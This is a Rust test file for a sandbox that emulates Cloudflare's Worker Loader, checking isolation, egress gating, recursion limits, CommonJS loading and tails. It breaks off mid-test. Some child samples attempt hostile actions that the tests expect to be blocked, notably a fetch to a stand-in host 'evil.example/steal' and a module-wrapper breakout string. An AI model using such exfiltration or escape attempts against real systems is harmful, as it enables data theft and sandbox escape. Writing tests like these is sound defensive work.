//! The Worker Loader as a binding (`env.LOADER`): supervisors written as Workers, through the
//! crate. The daemon's side is in `serve.rs`.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use bytes::Bytes;
use serde_json::{json, Value};
use wasm_sandbox::kv::{KvNamespace, KvStore, MemoryKv};
use wasm_sandbox::{Binding, Loader, WorkerCode};
use wasm_sandbox_tests::{get, json as body_json, loader, text};

/// The host worker of Cloudflare's Dynamic Workers example, in TypeScript as it is written there:
/// `POST /api/run` with `{"code"?}` loads the code as a child with no network and answers
/// `{ok, status, output}`, or `{ok: false, error}` with 400.
pub const HOST_TS: &str = include_str!("../../examples/supervisor/host.ts");

/// The cached variant: the child's code comes from a KV namespace on a miss, and the child is
/// handed the parent's service binding `INTERNAL_API`.
pub const CACHED_JS: &str = r#"
export default {
  async fetch(request, env) {
    const worker = env.LOADER.get("tenant-123-agent", async () => {
      const code = await env.CODE_STORAGE.get("tenant-123-agent");
      return {
        compatibilityDate: "2026-01-28",
        mainModule: "index.js",
        modules: { "index.js": code },
        globalOutbound: null,
        env: { INTERNAL_API: env.INTERNAL_API },
      };
    });
    return worker.getEntrypoint().fetch(request);
  },
};
"#;

/// What `tenant-123-agent` runs: it calls the service it was given, and reports what else its
/// `env` holds.
pub const AGENT_JS: &str = r#"
export default {
  async fetch(request, env) {
    const r = await env.INTERNAL_API.fetch("https://internal/data");
    return Response.json({ internal: await r.text(), keys: Object.keys(env), storage: typeof env.CODE_STORAGE });
  },
};
"#;

fn post(url: &str, body: &str) -> http::Request<Bytes> {
    http::Request::post(url)
        .header("content-type", "application/json")
        .body(Bytes::from(body.to_owned()))
        .unwrap()
}

/// Limits with CPU room for a whole tree of workers (5 s), for tests about something else
/// than the CPU budget.
fn cpu_room() -> wasm_sandbox::Limits {
    wasm_sandbox::Limits {
        cpu_time: std::time::Duration::from_secs(5),
        ..wasm_sandbox::Limits::default()
    }
}

/// Load `src` as a parent holding a Worker Loader scoped `scope`, and send it `GET https://p/`.
async fn parent_reply(loader: &Loader, scope: &str, src: &str) -> http::Response<Bytes> {
    let parent = loader
        .load(WorkerCode::js("p.js", src).with_binding("LOADER", loader.worker_loader(scope)))
        .unwrap();
    parent
        .entrypoint(None)
        .fetch(get("https://p/"))
        .await
        .unwrap()
}

async fn host(loader: &Loader, scope: &str) -> wasm_sandbox::Worker {
    loader
        .load(
            WorkerCode::ts("host.ts", HOST_TS).with_binding("LOADER", loader.worker_loader(scope)),
        )
        .unwrap()
}

async fn api_run(worker: &wasm_sandbox::Worker, body: &str) -> (u16, Value) {
    let r = worker
        .entrypoint(None)
        .fetch(post("https://host/api/run", body))
        .await
        .unwrap();
    (r.status().as_u16(), body_json(&r))
}

#[tokio::test]
async fn cloudflares_host_worker_runs_unchanged_as_typescript() {
    let loader = loader().await;
    let host = host(&loader, "t/host").await;
    let (status, out) = api_run(&host, "{}").await;
    assert_eq!(
        (status, out.clone()),
        (
            200,
            json!({"ok": true, "status": 200, "output": "Hello from a dynamic Worker!"})
        ),
        "{out}"
    );
    let (status, out) = api_run(
        &host,
        &json!({"code": "export default { fetch() { return new Response('made', { status: 201 }); } }"}).to_string(),
    )
    .await;
    assert_eq!(
        (status, out),
        (200, json!({"ok": true, "status": 201, "output": "made"}))
    );
    // A throwing script: 400 with its message.
    let (status, out) = api_run(
        &host,
        &json!({"code": "export default { fetch() { throw new Error('boom from the child'); } }"})
            .to_string(),
    )
    .await;
    assert_eq!(status, 400, "{out}");
    assert_eq!(out["ok"], false);
    assert!(
        out["error"]
            .as_str()
            .unwrap()
            .contains("boom from the child"),
        "{out}"
    );
    // A syntax error: 400, the message names it.
    let (status, out) = api_run(&host, &json!({"code": "export default {"}).to_string()).await;
    assert_eq!(status, 400, "{out}");
    assert!(
        out["error"]
            .as_str()
            .unwrap()
            .to_lowercase()
            .contains("syntax"),
        "{out}"
    );
    // A child that spins: 400 with the CPU error, and the parent still answers.
    let (status, out) = api_run(
        &host,
        &json!({"code": "export default { fetch() { while (true) {} } }"}).to_string(),
    )
    .await;
    assert_eq!(status, 400, "{out}");
    assert!(
        out["error"]
            .as_str()
            .unwrap()
            .to_lowercase()
            .contains("cpu"),
        "{out}"
    );
    // The host worker itself is unharmed.
    let r = host
        .entrypoint(None)
        .fetch(get("https://host/nope"))
        .await
        .unwrap();
    assert_eq!((r.status().as_u16(), text(&r)), (404, "Not found".into()));
}

#[tokio::test]
async fn cached_children_come_from_kv_and_get_only_the_service_they_are_passed() {
    let loader = loader().await;
    let store: Arc<dyn KvStore> = MemoryKv::new();
    let ns = KvNamespace::new(store.clone(), "code").unwrap();
    ns.put(
        "tenant-123-agent",
        AGENT_JS.as_bytes().to_vec(),
        None,
        None,
        None,
    )
    .await
    .unwrap();
    let calls = Arc::new(AtomicUsize::new(0));
    let seen = calls.clone();
    let internal = Binding::service(move |req: http::Request<Bytes>| {
        let seen = seen.clone();
        async move {
            seen.fetch_add(1, Ordering::SeqCst);
            Ok(http::Response::new(Bytes::from(format!(
                "internal {}",
                req.uri().path()
            ))))
        }
    });
    let parent = loader
        .load(
            WorkerCode::js("parent.js", CACHED_JS)
                .with_binding("LOADER", loader.worker_loader("tenant-123/parent"))
                .with_binding("CODE_STORAGE", Binding::Kv(ns.clone()))
                .with_binding("INTERNAL_API", internal),
        )
        .unwrap();
    let r = parent
        .entrypoint(None)
        .fetch(get("https://agent/"))
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{}", text(&r));
    let out = body_json(&r);
    assert_eq!(out["internal"], "internal /data");
    // Only what was passed: no CODE_STORAGE, no LOADER.
    assert_eq!(out["keys"], json!(["INTERNAL_API"]));
    assert_eq!(out["storage"], "undefined");
    assert_eq!(calls.load(Ordering::SeqCst), 1);
    // Cached: with the code gone from KV, the child still answers (the callback did not run).
    ns.delete("tenant-123-agent").await.unwrap();
    let r = parent
        .entrypoint(None)
        .fetch(get("https://agent/"))
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{}", text(&r));
    assert_eq!(calls.load(Ordering::SeqCst), 2);
}

#[tokio::test]
async fn get_ids_of_two_parents_never_collide() {
    let loader = loader().await;
    let parent = |scope: &str, says: &str| {
        let src = format!(
            r#"export default {{ async fetch(req, env) {{
                const w = env.LOADER.get("agent", () => ({{ mainModule: "a.js", modules: {{ "a.js": "export default {{ fetch() {{ return new Response('{says}'); }} }}" }} }}));
                return w.getEntrypoint().fetch(req);
            }} }}"#
        );
        loader
            .load(WorkerCode::js("p.js", src).with_binding("LOADER", loader.worker_loader(scope)))
            .unwrap()
    };
    let a = parent("tenant-a/p", "from a");
    let b = parent("tenant-b/p", "from b");
    for _ in 0..2 {
        let ra = a.entrypoint(None).fetch(get("https://x/")).await.unwrap();
        let rb = b.entrypoint(None).fetch(get("https://x/")).await.unwrap();
        assert_eq!(
            (text(&ra), text(&rb)),
            ("from a".to_string(), "from b".to_string())
        );
    }
    // Nor with the supervisor's own ids.
    let own = loader
        .get("agent", || async {
            Ok(WorkerCode::js(
                "o.js",
                "export default { fetch() { return new Response('own'); } }",
            ))
        })
        .await
        .unwrap();
    assert_eq!(
        text(&own.entrypoint(None).fetch(get("https://x/")).await.unwrap()),
        "own"
    );
}

const NARROWING: &str = r#"
import { WorkerEntrypoint } from "cloudflare:workers";
const CHILD = `
import { WorkerEntrypoint } from "cloudflare:workers";
export class Api extends WorkerEntrypoint {
  add(a, b) { return a + b; }
  keys() { return Object.keys(this.env); }
}
export default { async fetch(req, env) {
  const out = { keys: Object.keys(env), fake: typeof (env.FAKE && env.FAKE.get) };
  try { await fetch("http://127.0.0.1:9/"); out.fetched = true; } catch (e) { out.fetchError = e.message; }
  return Response.json(out);
} };`;
export default { async fetch(request, env) {
  const out = {};
  const w = env.LOADER.load({ mainModule: "c.js", modules: { "c.js": CHILD }, env: { N: 1, FAKE: { get() {} } } });
  out.child = await (await w.getEntrypoint().fetch("https://c/")).json();
  out.rpc = await w.getEntrypoint("Api").add(2, 3);
  out.rpcKeys = await w.getEntrypoint("Api").keys();
  try {
    await env.LOADER.load({ mainModule: "c.js", modules: { "c.js": CHILD }, globalOutbound: { allow: ["*"] } }).getEntrypoint().fetch("https://c/");
  } catch (e) { out.wider = e.message; }
  try {
    await env.LOADER.load({ mainModule: "c.js", modules: { "c.js": CHILD }, env: { KV: env.NOT_MINE } }).getEntrypoint().fetch("https://c/");
    out.notMine = "loaded";
  } catch (e) { out.notMine = e.message; }
  const gate = env.LOADER.load({ mainModule: "c.js", modules: { "c.js": CHILD }, globalOutbound: env.GATE });
  out.gated = await (await gate.getEntrypoint().fetch("https://c/")).json();
  let loaded = 0;
  try {
    for (let i = 0; i < 40; i++) {
      await env.LOADER.load({ mainModule: "c.js", modules: { "c.js": "export default { fetch() { return new Response('x'); } }" } }).getEntrypoint().fetch("https://c/");
      loaded++;
    }
  } catch (e) { out.fanOut = e.message; }
  out.loaded = loaded;
  return Response.json(out);
} };
"#;

#[tokio::test]
async fn a_child_never_gets_more_than_its_parent() {
    let loader = loader().await;
    let gate_hits = Arc::new(AtomicUsize::new(0));
    let hits = gate_hits.clone();
    let gate = Binding::service(move |req: http::Request<Bytes>| {
        let hits = hits.clone();
        async move {
            hits.fetch_add(1, Ordering::SeqCst);
            Ok(http::Response::new(Bytes::from(format!(
                "gate saw {}",
                req.uri()
            ))))
        }
    });
    let parent = loader
        .load(
            WorkerCode::js("p.js", NARROWING)
                .with_binding("LOADER", loader.worker_loader("t/narrow"))
                .with_binding("GATE", gate)
                // 36 child loads in one request: not a test of the CPU budget (the default
                // 50 ms of the whole tree ran out on a loaded CI machine).
                .with_limits(cpu_room()),
        )
        .unwrap();
    let r = parent
        .entrypoint(None)
        .fetch(get("https://p/"))
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{}", text(&r));
    let out = body_json(&r);
    // JSON values only: a look-alike object is data, not a binding; no LOADER, no GATE.
    assert_eq!(out["child"]["keys"], json!(["FAKE", "N"]), "{out}");
    assert_eq!(out["child"]["fake"], "undefined");
    // The parent has no outbound, so neither has the child (inherited).
    assert!(
        out["child"]["fetchError"]
            .as_str()
            .unwrap()
            .contains("not permitted"),
        "{out}"
    );
    assert_eq!(out["rpc"], 5);
    assert_eq!(out["rpcKeys"], json!(["FAKE", "N"]));
    assert!(
        out["wider"]
            .as_str()
            .unwrap()
            .contains("must be null, a service binding or a ctx.exports entrypoint"),
        "{out}"
    );
    // `env.NOT_MINE` is undefined in the parent: passed as a value, it is simply absent.
    assert_eq!(out["notMine"], "loaded");
    // Through the parent's service binding: every child fetch goes to it.
    assert_eq!(out["gated"]["fetched"], true, "{out}");
    assert_eq!(gate_hits.load(Ordering::SeqCst), 1);
    // Fan-out: bounded per request (3 loaded above, then 29 more).
    assert_eq!(out["loaded"], 29, "{out}");
    assert!(
        out["fanOut"]
            .as_str()
            .unwrap()
            .contains("already loaded 32 workers"),
        "{out}"
    );
}

#[tokio::test]
async fn a_loader_is_passed_on_only_explicitly_and_recursion_is_bounded() {
    let loader = loader().await;
    const RECURSE: &str = r#"
const SELF = `export default { async fetch(req, env) {
  const depth = Number(new URL(req.url).searchParams.get("d"));
  if (!env.LOADER) return new Response("no loader at depth " + depth);
  const w = env.LOADER.load({ mainModule: "s.js", modules: { "s.js": env.SRC }, env: { SRC: env.SRC, LOADER: env.LOADER } });
  const r = await w.getEntrypoint().fetch("https://s/?d=" + (depth + 1));
  return new Response(await r.text(), { status: r.status });
} };`;
export default { async fetch(req, env) {
  const without = env.LOADER.load({ mainModule: "s.js", modules: { "s.js": SELF }, env: { SRC: SELF } });
  const a = await (await without.getEntrypoint().fetch("https://s/?d=1")).text();
  const w = env.LOADER.load({ mainModule: "s.js", modules: { "s.js": SELF }, env: { SRC: SELF, LOADER: env.LOADER } });
  let b;
  try { b = await (await w.getEntrypoint().fetch("https://s/?d=1")).text(); } catch (e) { b = "error: " + e.message; }
  return Response.json({ a, b });
} };
"#;
    // CPU room for the whole tree, so that the depth limit is what stops the recursion (with
    // the default 50 ms, whether the tree's CPU ran out inside a child, where the parent catches
    // it, or in the parent itself depended on the machine's load).
    let parent = loader
        .load(
            WorkerCode::js("p.js", RECURSE)
                .with_binding("LOADER", loader.worker_loader("t/rec"))
                .with_limits(cpu_room()),
        )
        .unwrap();
    let r = parent
        .entrypoint(None)
        .fetch(get("https://p/"))
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{}", text(&r));
    let out = body_json(&r);
    assert_eq!(out["a"], "no loader at depth 1");
    // Passed on, a loader lets the child load its own child, until the tree's depth or CPU stops it.
    let b = out["b"].as_str().unwrap();
    assert!(
        b.contains("nested more than") || b.to_lowercase().contains("cpu"),
        "{b}"
    );
}

/// Both programs through the daemon: registered workers with `{"loader": {}}`, Cloudflare's
/// host worker driven through `/workers/host/api/run` with the example's request bodies.
#[tokio::test]
async fn both_programs_run_through_the_daemon() {
    use wasm_sandbox_tests::daemon::{client, post_json, put_json, TempDir, TestDaemon};
    let dir = TempDir::new("worker-loader");
    let d = TestDaemon::start(&dir.0, &[], &[]);
    let (status, v) = put_json(
        &d,
        "/workers/host",
        &json!({ "mainModule": "host.ts", "modules": { "host.ts": HOST_TS }, "bindings": { "LOADER": { "loader": {} } } }),
    )
    .await;
    assert_eq!(status, 201, "{v}");
    let run = |body: Value| {
        let url = d.url("/workers/host/api/run");
        async move {
            let r = client().post(url).json(&body).send().await.unwrap();
            (r.status().as_u16(), r.json::<Value>().await.unwrap())
        }
    };
    assert_eq!(
        run(json!({})).await,
        (
            200,
            json!({"ok": true, "status": 200, "output": "Hello from a dynamic Worker!"})
        )
    );
    let (status, out) =
        run(json!({"code": "export default { fetch() { throw new Error('nope'); } }"})).await;
    assert_eq!(status, 400, "{out}");
    assert!(out["error"].as_str().unwrap().contains("nope"), "{out}");
    let (status, out) = run(json!({"code": "export default { fetch() { while(true){} } }"})).await;
    assert_eq!(status, 400, "{out}");
    assert!(
        out["error"]
            .as_str()
            .unwrap()
            .to_lowercase()
            .contains("cpu"),
        "{out}"
    );

    // Program 2: the code in a KV namespace, a registered worker as INTERNAL_API.
    let (status, v) = put_json(
        &d,
        "/workers/internal",
        &json!({ "code": "export default { fetch(req) { return new Response('internal ' + new URL(req.url).pathname); } }" }),
    )
    .await;
    assert_eq!(status, 201, "{v}");
    let seed = "export default { async fetch(req, env) { await env.CODE.put('tenant-123-agent', env.SRC); return new Response('ok'); } }";
    let (status, v) = post_json(
        &d,
        "/api/run",
        &json!({ "code": seed, "env": { "SRC": AGENT_JS }, "bindings": { "CODE": { "kv": "code" } } }),
    )
    .await;
    assert_eq!((status, v["output"].clone()), (200, json!("ok")), "{v}");
    let (status, v) = put_json(
        &d,
        "/workers/parent",
        &json!({ "code": CACHED_JS, "bindings": {
            "LOADER": { "loader": {} },
            "CODE_STORAGE": { "kv": "code" },
            "INTERNAL_API": { "service": "internal" },
        } }),
    )
    .await;
    assert_eq!(status, 201, "{v}");
    let r = client()
        .get(d.url("/workers/parent/"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let out: Value = r.json().await.unwrap();
    assert_eq!(out["internal"], "internal /data", "{out}");
    assert_eq!(out["keys"], json!(["INTERNAL_API"]));

    // Two registered parents asking for the same id get their own children.
    for (id, says) in [("pa", "A"), ("pb", "B")] {
        let src = format!(
            r#"export default {{ fetch(req, env) {{
                return env.LOADER.get("same", () => ({{ mainModule: "c.js", modules: {{ "c.js": "export default {{ fetch() {{ return new Response('{says}'); }} }}" }} }})).getEntrypoint().fetch(req);
            }} }}"#
        );
        let (status, v) = put_json(
            &d,
            &format!("/workers/{id}"),
            &json!({ "code": src, "bindings": { "LOADER": { "loader": {} } } }),
        )
        .await;
        assert_eq!(status, 201, "{v}");
    }
    for _ in 0..2 {
        for (id, says) in [("pa", "A"), ("pb", "B")] {
            let r = client()
                .get(d.url(&format!("/workers/{id}/")))
                .send()
                .await
                .unwrap();
            assert_eq!(r.text().await.unwrap(), says);
        }
    }
    // A loader binding takes no options yet.
    let (status, v) = post_json(
        &d,
        "/api/run",
        &json!({ "code": "x", "bindings": { "L": { "loader": { "cpuMs": 1 } } } }),
    )
    .await;
    assert_eq!(status, 400, "{v}");
}

/// The tail shows a child's invocation under its parent's.
#[tokio::test]
async fn the_tail_shows_children_under_their_parent() {
    use wasm_sandbox::{TailItem, TailKind};
    let loader = loader().await;
    let mut tail = loader.tail();
    let r = parent_reply(
        &loader,
        "t/tail",
        r#"export default { async fetch(req, env) {
            console.log("parent says hi");
            const w = env.LOADER.load({ mainModule: "c.js", modules: { "c.js": "export default { fetch() { console.log('child says hi'); return new Response('c'); } }" } });
            return new Response(await (await w.getEntrypoint().fetch("https://c/")).text());
        } }"#,
    )
    .await;
    assert_eq!(text(&r), "c");
    let mut logs = Vec::new();
    let mut finished = 0;
    while finished < 2 {
        let item = tokio::time::timeout(std::time::Duration::from_secs(10), tail.recv())
            .await
            .expect("tail events")
            .expect("loader alive");
        let TailItem::Event(e) = item else { continue };
        match &e.kind {
            TailKind::Log { message, .. } => logs.push((message.clone(), e.invocation, e.parent)),
            TailKind::Finish { .. } => finished += 1,
            _ => {}
        }
    }
    let parent_inv = logs.iter().find(|l| l.0 == "parent says hi").unwrap();
    let child = logs.iter().find(|l| l.0 == "child says hi").unwrap();
    assert_eq!(parent_inv.2, None);
    assert_eq!(child.2, Some(parent_inv.1), "{logs:?}");
}

/// One parent cycling through `get` ids keeps at most 64 children cached: its oldest are
/// dropped, not other workers.
#[tokio::test]
async fn a_parent_cycling_ids_keeps_a_bounded_cache() {
    let loader = loader().await;
    let own = loader
        .get("supervisors-own", || async {
            Ok(WorkerCode::js(
                "o.js",
                "export default { fetch() { return new Response('own'); } }",
            ))
        })
        .await
        .unwrap();
    drop(own);
    const CYCLE: &str = r#"export default { async fetch(req, env) {
        const u = new URL(req.url);
        const from = Number(u.searchParams.get("from")), to = Number(u.searchParams.get("to"));
        let misses = 0;
        for (let i = from; i < to; i++) {
            const w = env.LOADER.get("id-" + i, () => { misses++; return { mainModule: "c.js", modules: { "c.js": "export default { fetch() { return new Response('c'); } }" } }; });
            await (await w.getEntrypoint().fetch("https://c/")).text();
        }
        return Response.json({ misses });
    } };"#;
    let parent = loader
        .load(WorkerCode::js("p.js", CYCLE).with_binding("LOADER", loader.worker_loader("t/cycle")))
        .unwrap();
    let misses = |from: u32, to: u32| {
        let parent = parent.clone();
        async move {
            let r = parent
                .entrypoint(None)
                .fetch(get(&format!("https://p/?from={from}&to={to}")))
                .await
                .unwrap();
            assert_eq!(r.status(), 200, "{}", text(&r));
            body_json(&r)["misses"].as_u64().unwrap()
        }
    };
    // 90 ids, 30 per request (the per-request limit is 32 loads).
    for k in 0..3 {
        assert_eq!(misses(k * 30, k * 30 + 30).await, 30);
    }
    // The newest 64 are cached; the oldest were dropped.
    assert_eq!(misses(60, 90).await, 0);
    assert_eq!(misses(0, 10).await, 10);
    let stats = loader.cache_stats();
    assert!(stats.workers <= 64 + 1, "{stats:?}");
}

/// A parent loading CommonJS children (`{cjs}` and `*.cjs` string modules), as Cloudflare's
/// Worker Loader takes them.
const CJS_PARENT: &str = r#"
export default {
  async fetch(request, env) {
    const run = async (code) => {
      try {
        const r = await env.LOADER.load(code).getEntrypoint().fetch("https://child/");
        return await r.text();
      } catch (e) { return "error: " + e.message; }
    };
    const out = {};
    // A CommonJS main module requiring a CommonJS helper (in a folder, by a relative path), an ES
    // module, a JSON module and a node built-in.
    out.main = await run({
      mainModule: "index.cjs",
      modules: {
        "index.cjs": { cjs: `
          const { greet } = require("./lib/greet.cjs");
          const esm = require("./esm.js");
          const data = require("./data.json");
          const { Buffer } = require("node:buffer");
          const self = this === module.exports;
          module.exports = { fetch() { return new Response([greet("cjs"), esm.twice(21), esm.default, data.n, Buffer.from("hi").toString("hex"), self, typeof __filename, __dirname].join(" ")); } };` },
        "lib/greet.cjs": "exports.greet = (who) => require('../util.cjs').upper('hello ' + who);",
        "util.cjs": { cjs: "module.exports.upper = (s) => s.toUpperCase();" },
        "esm.js": "export const twice = (n) => n * 2; export default 'esm-default';",
        "data.json": { json: { n: 7 } },
      },
    });
    // An ES main module importing a CommonJS helper: its default export is module.exports.
    out.esmMain = await run({
      mainModule: "worker.js",
      modules: {
        "worker.js": "import lib from './lib.cjs'; export default { fetch() { return new Response(String(lib.answer)); } };",
        "lib.cjs": { cjs: "module.exports = { answer: 42 };" },
      },
    });
    // require of what is not there: Node's error, at the call.
    out.missing = await run({
      mainModule: "index.cjs",
      modules: { "index.cjs": { cjs: "let m; try { require('./nope.js'); } catch (e) { m = e.code + ': ' + e.message; } module.exports = { fetch() { return new Response(m); } };" } },
    });
    // A source that tries to break out of its wrapper only reaches its own module's top level.
    out.breakout = await run({
      mainModule: "index.cjs",
      modules: { "index.cjs": { cjs: "}); globalThis.escaped = 1; (function(){" } },
    });
    // A syntax error names the module.
    out.syntax = await run({ mainModule: "index.cjs", modules: { "index.cjs": { cjs: "module.exports = {" } } });
    return Response.json(out);
  },
};
"#;

#[tokio::test]
async fn commonjs_children_run_and_require_what_they_name() {
    let loader = loader().await;
    let r = parent_reply(&loader, "t/cjs", CJS_PARENT).await;
    assert_eq!(r.status(), 200, "{}", text(&r));
    let out = body_json(&r);
    assert_eq!(
        out["main"], "HELLO CJS 42 esm-default 7 6869 true string /",
        "{out}"
    );
    assert_eq!(out["esmMain"], "42", "{out}");
    assert_eq!(
        out["missing"], "MODULE_NOT_FOUND: Cannot find module './nope.js' from 'index.cjs'",
        "{out}"
    );
    // Breaking out of the wrapper leaves a module without a handler (or a syntax error): an
    // error for this child, nothing for anyone else.
    assert!(
        out["breakout"].as_str().unwrap().starts_with("error: "),
        "{out}"
    );
    let syntax = out["syntax"].as_str().unwrap();
    assert!(
        syntax.starts_with("error: ") && syntax.contains("index.cjs"),
        "{out}"
    );
}

/// Cloudflare's egress-control example: a `WorkerEntrypoint` of the parent, handed to the child
/// as its `globalOutbound` through `ctx.exports` with `props`, sees every fetch the child makes.
pub const GATEWAY_JS: &str = r#"
import { WorkerEntrypoint } from "cloudflare:workers";

export class HttpGateway extends WorkerEntrypoint {
  async fetch(request) {
    const url = new URL(request.url);
    if (url.hostname !== "api.example.com") {
      return new Response(`blocked: ${url.hostname}`, { status: 403 });
    }
    // The credential is the parent's: the child never sees it.
    const headers = new Headers(request.headers);
    headers.set("authorization", `Bearer token-for-${this.ctx.props.tenantId}`);
    return Response.json({ url: request.url, auth: headers.get("authorization"), child: request.headers.get("x-from") });
  }
}

export default {
  async fetch(request, env, ctx) {
    const worker = env.LOADER.get("agent", async () => ({
      compatibilityDate: "2026-01-28",
      mainModule: "index.js",
      modules: {
        "index.js": `export default { async fetch() {
          const a = await fetch("https://api.example.com/v1/items", { headers: { "x-from": "child" } });
          const b = await fetch("https://evil.example/steal");
          return Response.json({ a: await a.json(), b: b.status + " " + await b.text(), auth: typeof AUTH });
        } }`,
      },
      globalOutbound: ctx.exports.HttpGateway({ props: { tenantId: "acme" } }),
    }));
    return worker.getEntrypoint().fetch(request);
  },
};
"#;

#[tokio::test]
async fn ctx_exports_intercept_a_childs_fetches_with_props() {
    let loader = loader().await;
    let r = parent_reply(&loader, "t/gateway", GATEWAY_JS).await;
    assert_eq!(r.status(), 200, "{}", text(&r));
    let out = body_json(&r);
    assert_eq!(out["a"]["url"], "https://api.example.com/v1/items", "{out}");
    assert_eq!(out["a"]["auth"], "Bearer token-for-acme", "{out}");
    assert_eq!(out["a"]["child"], "child");
    assert_eq!(out["b"], "403 blocked: evil.example", "{out}");
}

/// `ctx.exports` stubs: called by the parent itself, passed to a child's `env` (fetch and RPC,
/// with props the child cannot change), `ctx.props` through `getEntrypoint(name, { props })`,
/// and `{}` by default; RPC on a worker service binding; a host handler has no methods.
#[tokio::test]
async fn entrypoint_stubs_carry_props_and_rpc_but_only_what_the_parent_gave() {
    let loader = loader().await;
    let adder = loader
        .load(WorkerCode::js(
            "adder.js",
            "export default { add(a, b) { return a + b; }, fetch() { return new Response('adder'); } }",
        ))
        .unwrap();
    const SRC: &str = r#"
import { WorkerEntrypoint } from "cloudflare:workers";
export class Api extends WorkerEntrypoint {
  whoami() { return { tenant: this.ctx.props.tenant ?? null, keys: Object.keys(this.ctx.props) }; }
  async fetch(req) { return new Response(`api for ${this.ctx.props.tenant} at ${new URL(req.url).pathname}`); }
}
export class Plain extends WorkerEntrypoint { props() { return this.ctx.props; } }
const CHILD = `import { WorkerEntrypoint } from "cloudflare:workers";
export class Named extends WorkerEntrypoint { hello() { return "named " + JSON.stringify(this.ctx.props); } }
export default {
  async fetch(req, env, ctx) {
    const who = await env.API.whoami();
    const page = await (await env.API.fetch("https://api/x")).text();
    let forged;
    try { env.API({ props: { tenant: "other" } }); forged = "called"; } catch (e) { forged = e.constructor.name; }
    const own = Object.keys(ctx.exports);
    return Response.json({ who, page, forged, own, props: ctx.props });
  }
};`;
export default {
  async fetch(req, env, ctx) {
    const direct = await ctx.exports.Api({ props: { tenant: "self" } }).whoami();
    const plain = await ctx.exports.Plain.props();
    const exported = Object.keys(ctx.exports).sort();
    const w = env.LOADER.load({ mainModule: "c.js", modules: { "c.js": CHILD },
      env: { API: ctx.exports.Api({ props: { tenant: "acme" } }) } });
    const child = await (await w.getEntrypoint().fetch("https://c/")).json();
    const named = await w.getEntrypoint("Named", { props: { run: 7 } }).hello();
    const sum = await env.ADDER.add(2, 3);
    let hostRpc;
    try { await env.GATE.anything(); } catch (e) { hostRpc = e.message; }
    let big;
    try { await ctx.exports.Plain({ props: { x: "y".repeat(70000) } }).props(); } catch (e) { big = e.message; }
    let notStub;
    try { env.LOADER.load({ mainModule: "c.js", modules: { "c.js": CHILD }, tails: [{ tail() {} }] }); } catch (e) { notStub = e.message; }
    let kvTail;
    try { await env.LOADER.load({ mainModule: "c.js", modules: { "c.js": CHILD }, tails: [env.KV] }).getEntrypoint().fetch("https://c/"); } catch (e) { kvTail = e.message; }
    return Response.json({ direct, plain, exported, child, named, sum, hostRpc, big, notStub, kvTail });
  }
};
"#;
    let gate = Binding::service(|_req: http::Request<Bytes>| async {
        Ok(http::Response::new(Bytes::from("gate")))
    });
    let ns = KvNamespace::new(MemoryKv::new(), "t").unwrap();
    let parent = loader
        .load(
            WorkerCode::js("p.js", SRC)
                .with_binding("LOADER", loader.worker_loader("t/stubs"))
                .with_binding("ADDER", Binding::worker(adder))
                .with_binding("GATE", gate)
                .with_binding("KV", Binding::Kv(ns)),
        )
        .unwrap();
    let r = parent
        .entrypoint(None)
        .fetch(get("https://p/"))
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{}", text(&r));
    let out = body_json(&r);
    assert_eq!(
        out["direct"],
        json!({"tenant": "self", "keys": ["tenant"]}),
        "{out}"
    );
    assert_eq!(out["plain"], json!({}), "{out}");
    assert_eq!(out["exported"], json!(["Api", "Plain", "default"]), "{out}");
    // The child reaches the parent's entrypoint with the parent's props, and cannot re-stamp it.
    assert_eq!(
        out["child"]["who"],
        json!({"tenant": "acme", "keys": ["tenant"]}),
        "{out}"
    );
    assert_eq!(out["child"]["page"], "api for acme at /x");
    assert_eq!(out["child"]["forged"], "TypeError", "{out}");
    // The child's own ctx.exports are its own entrypoints, not the parent's.
    assert_eq!(out["child"]["own"], json!(["Named", "default"]), "{out}");
    assert_eq!(out["child"]["props"], json!({}));
    assert_eq!(out["named"], r#"named {"run":7}"#, "{out}");
    assert_eq!(out["sum"], 5);
    assert!(
        out["hostRpc"]
            .as_str()
            .unwrap()
            .contains("has no RPC methods"),
        "{out}"
    );
    assert!(
        out["big"].as_str().unwrap().contains("at most 65536"),
        "{out}"
    );
    assert!(
        out["notStub"]
            .as_str()
            .unwrap()
            .contains("tails[0] must be a service binding or a ctx.exports entrypoint"),
        "{out}"
    );
    assert!(
        out["kvTail"]
            .as_str()
            .unwrap()
            .contains("only a service binding or a ctx.exports entrypoint"),
        "{out}"
    );
}

/// A parent calling its own default entrypoint through `ctx.exports` forever is stopped by the
/// request tree (depth or sandboxes), with an error it can catch.
#[tokio::test]
async fn a_worker_calling_itself_through_ctx_exports_is_bounded() {
    let loader = loader().await;
    let r = parent_reply(
        &loader,
        "t/self",
        r#"export default { async fetch(req, env, ctx) {
            const d = Number(new URL(req.url).searchParams.get("d") || 0);
            try {
              const r = await ctx.exports.default.fetch("https://p/?d=" + (d + 1));
              return new Response(await r.text());
            } catch (e) { return new Response("stopped at " + d + ": " + e.message); }
        } }"#,
    )
    .await;
    let body = text(&r);
    assert!(
        body.contains("nested more than") || body.contains("sandboxes"),
        "{body}"
    );
}

/// Cloudflare's dynamic-worker observability: `tails: [ctx.exports.Tail({ props })]` receives a
/// trace item for each of the child's invocations, after it, with its logs, outcome and
/// exception. Invocations made while delivering a tail are not tailed (a tail that loads a
/// child tailing to itself does not loop).
#[tokio::test]
async fn a_childs_tails_get_its_trace_items() {
    let loader = loader().await;
    let ns = KvNamespace::new(MemoryKv::new(), "tails").unwrap();
    const SRC: &str = r#"
import { WorkerEntrypoint } from "cloudflare:workers";
const CHILD = `export default { fetch(req) {
  console.log("child at " + new URL(req.url).pathname);
  if (req.url.endsWith("/boom")) throw new TypeError("boom");
  return new Response("ok");
} };`;
export class DynamicWorkerTail extends WorkerEntrypoint {
  async tail(events) {
    for (const e of events) {
      const key = `${this.ctx.props.workerId}:${e.event.request.url}`;
      await this.env.LOGS.put(key, JSON.stringify({ n: events.length, script: e.scriptName, outcome: e.outcome,
        logs: e.logs.map((l) => l.message[0]), exceptions: e.exceptions.map((x) => x.name + ": " + x.message),
        status: e.event.response ? e.event.response.status : null }));
      // Loading a child that tails to this same entrypoint, while delivering: not tailed again.
